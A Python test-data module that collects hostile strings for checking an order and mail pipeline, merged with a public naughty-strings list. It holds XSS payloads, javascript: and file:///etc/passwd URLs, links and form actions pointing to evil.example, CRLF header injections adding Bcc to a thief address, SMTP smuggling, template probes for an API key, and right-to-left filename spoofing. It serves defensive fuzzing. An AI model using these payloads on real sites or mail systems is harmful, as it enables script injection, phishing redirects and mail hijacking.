"""Texts that strangers put into orders to break a mail: a public list, and our own."""

import json
from collections.abc import Iterator
from pathlib import Path

CORPUS = Path("../shared/corpora/nasty-strings/blns/blns_dev.json")

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></style></textarea></script><h1>x</h1>",
    "--><h1>x</h1><!--",
    "--!><h1>x</h1>",
    "<![endif]--><h1>x</h1><!--[if mso]>",
    "]]><h1>x</h1>",
    "</bdi></td></tr></table></div><table><tr><td>",
    "<a href=https://evil.example>x</a>",
    "<form action=https://evil.example><input name=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;&#x3c;b&#x3e;&amp;amp;",
    "<\x00script>alert(1)</\x00script>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus",
    '" style="position:fixed;inset:0',
    "`onload=alert(1)`",
    "=\"x\" href='y'",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.com",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://example.com@evil.example/",
    "https://evil.example\\@example.com/",
    'https://example.com/"onload="alert(1)',
    "https://example.com/'><b>",
    "https://example.com/--><h1>",
    "https://example.com/\r\nSet-Cookie: a=b",
    "https://example.com/</script><script>",
    "https://example.com/a b?c={{x}}&d={%x%}",
    "https://[::1]/]><b>",
    "mailto:a@example.com?bcc=b@example.com&body=<b>",
    "mailto:a@example.com\r\nBcc: b@example.com",
    "tel:+1(555)0100",
    "https://" + "a" * 3_000,
)
HEADERS = (
    "x\r\nBcc: thief@example.com",
    "x\nSubject: other\n\n<h1>b</h1>",
    "x\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<h1>b</h1>",
    "x\rX-Evil: 1",
    "x\x0bBcc: a\x0cBcc: b\x85Bcc: c\u2028Bcc: d\u2029Bcc: e",
    "=?utf-8?q?=0D=0ABcc:_thief=40example=2Ecom?=",
    "=?utf-8?b?PGgxPg==?= =?x?q?y?=",
    "\r\n.\r\nMAIL FROM:<a@example.com>",
    "\n.\nQUIT\nFrom x",
    "x" * 5_000,
    "é" * 5_000,
)
TEMPLATES = (
    "{{x}}{{{jsonld}}}{{&brand.name}}",
    "{{#lines}}{{title}}{{/lines}}{{^x}}y{{/x}}",
    "{{> footer}}{{>*x}}{{< head}}{{$x}}{{/x}}{{/head}}",
    "{{=<% %>=}}<%x%>",
    "{{! x }} }} {{ {",
    "{% if true %}{% endif %}{% include 'x' %}{% render 'x' %}",
    "{{ settings.api_key }}{{ 'x' | raw }}{%- raw -%}",
    "{% endfor %}{% for i in (1..9) %}",
    "{name} {number} {count} {0} {} {{}} %s %(x)s ${x} #{x} <%= x %>",
)
MARKED_UP = (
    '"}]},"price":"0.00","x":{"a":["',
    '\\"}</script><script>{"',
    "\\u003c/script\\u003e",
    "\u2028\u2029\\",
    "<!--<script>",
    "</script >",
)
STYLES = (
    "red;background:url(javascript:alert(1))",
    "}</style><style>*{display:none}",
    "x:expression(alert(1))",
    "/*",
    "\\3c b\\3e",
    "!important;font-size:99px",
)
SIGNS = (
    "\u202egnp.exe\u202c",
    "\u202a\u202b\u202d\u2066\u2067\u2068x",
    "\u2069\u2069\u202cx",
    "\u200e\u200f\u061c\u200b\ufeff\u2060\u00ad",
    "\u05d0\u05d1 abc 123 \u0645\u0631\u062d\u0628\u0627 (x)",
    "x\x00y\x07\x08\x1b[31m\x7f\x9f",
    "\x00",
    "\ud800",
    "a\udfffb\ud83dc",
    "\ufffe\uffff\ufff9x\ufffa",
    "\U000e0041\U000e007f",
    "Z\u0334\u0321\u0322\u031b\u0357\u0331\u0332\u0333\u0339\u033a\u033b\u033c\u0345" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
    "\u3164\u115f\u2800",
    "<&>\"'" * 1_500,
    " \t\n ",
    "",
)
OWN = MARKUP + ATTRIBUTES + SCHEMES + HEADERS + TEMPLATES + MARKED_UP + STYLES + SIGNS


def public() -> tuple[str, ...]:
    """The public list of naughty strings; nothing where the corpora are not here."""
    if not CORPUS.exists():
        return ()
    return tuple(_texts(json.loads(CORPUS.read_text(encoding="utf-8"))))


def attacks() -> tuple[str, ...]:
    """Each of them once."""
    return tuple(dict.fromkeys((*OWN, *public())))


def _texts(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from _texts(inner)
